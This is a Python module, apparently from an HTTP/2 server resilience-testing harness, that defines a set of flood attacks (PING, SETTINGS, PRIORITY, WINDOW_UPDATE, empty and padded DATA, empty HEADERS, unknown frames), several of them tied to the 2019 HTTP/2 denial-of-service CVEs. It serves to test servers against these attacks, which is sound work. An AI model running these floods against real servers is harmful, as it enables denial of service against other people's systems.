# SPDX-License-Identifier: Apache-2.0
"""Frames that cost the sender nothing and ask for nothing, as fast as the socket takes them."""

from campaign import attack
from peer import DATA, END_HEADERS, HEADERS, PING, PRIORITY, SETTINGS, WINDOW, open_call, request
from wire import frame, message


def of(bytes, count=1000):
    """The same frames over and over."""
    batch = bytes * count
    return lambda peer: lambda: batch


def on_an_open_call(run, make, end=False):
    """A call that waits for its message, and then frames for it."""

    def begin(peer):
        stream = peer.stream()
        peer.say(open_call(stream, request(token=run.token), end))
        batch = make(stream) * 1000
        return lambda: batch

    return begin


@attack("PING flood", cut=2, attackers=2)
def ping(run):
    """CVE-2019-9512."""
    run.flood(of(frame(PING, payload=bytes(8))))


@attack("PING flood, nothing read", cut=2, attackers=2)
def ping_deaf(run):
    """The answers have nowhere to go."""
    run.flood(of(frame(PING, payload=bytes(8))), reads=False)


@attack("SETTINGS flood", cut=2, attackers=2)
def settings(run):
    """CVE-2019-9515."""
    run.flood(of(frame(SETTINGS)))


@attack("SETTINGS flood, nothing read", cut=2, attackers=2)
def settings_deaf(run):
    run.flood(of(frame(SETTINGS)), reads=False)


@attack("SETTINGS of 2,700 entries", cut=2)
def settings_wide(run):
    """One frame that says the same 2,700 times."""
    run.flood(of(frame(SETTINGS, payload=b"\0\4\0\1\0\0" * 2700), 10))


@attack("PRIORITY flood", cut=2, attackers=2)
def priority(run):
    """CVE-2019-9513: streams that do not exist change their places."""

    def begin(peer):
        streams = range(1, 2001, 2)
        batch = b"".join(
            frame(PRIORITY, 0, stream, (stream + 2).to_bytes(4, "big") + b"\x10") for stream in streams
        )
        return lambda: batch

    run.flood(begin)


@attack("WINDOW_UPDATE flood", cut=2, attackers=2)
def window_update(run):
    run.flood(of(frame(WINDOW, payload=(1).to_bytes(4, "big"))))


@attack("empty DATA flood", cut=2, attackers=2)
def empty_data(run):
    """CVE-2019-9518: DATA without a byte uses up no window."""
    run.flood(on_an_open_call(run, lambda stream: frame(DATA, 0, stream)))


@attack("DATA of one byte", attackers=2)
def dribble(run):
    """A message of 2,000 frames: nine bytes of frame for each of its own. Wasteful, but each brings something."""
    body = message(bytes(2000))

    def frames(stream, block):
        yield open_call(stream, block)
        for at in range(len(body)):
            yield frame(DATA, int(at == len(body) - 1), stream, body[at : at + 1])

    run.calls(request(token=run.token), frames, at_once=10)


@attack("padded DATA flood", cut=2, attackers=2)
def padded_data(run):
    """DATA that is padding only: uses up window, brings no byte of a message."""
    run.flood(on_an_open_call(run, lambda stream: frame(DATA, 8, stream, b"\xff" + bytes(255))))


@attack("empty HEADERS flood", cut=2, attackers=2)
def empty_headers(run):
    """CVE-2019-9516: requests without a field."""

    def begin(peer):
        return lambda: b"".join(frame(HEADERS, END_HEADERS, peer.stream()) for _ in range(200))

    run.flood(begin)


@attack("flood of unknown frames", cut=2, attackers=2)
def unknown_frames(run):
    """Kinds that nobody has defined are to be ignored (RFC 9113, section 4.1)."""
    run.flood(of(frame(0xBB, payload=bytes(16))))


@attack("DATA for ended calls", cut=2, attackers=2)
def data_for_nobody(run):
    """A call that was answered is gone; what still comes for it is passed over."""

    def begin(peer):
        stream = peer.stream()
        peer.say(open_call(stream, request(), True))
        peer.await_end(stream)
        batch = frame(DATA, 0, stream, b"x") * 1000
        return lambda: batch

    run.flood(begin)


@attack("answers to no ping", cut=2, attackers=2)
def ping_answers(run):
    run.flood(of(frame(PING, 1, payload=bytes(8))))
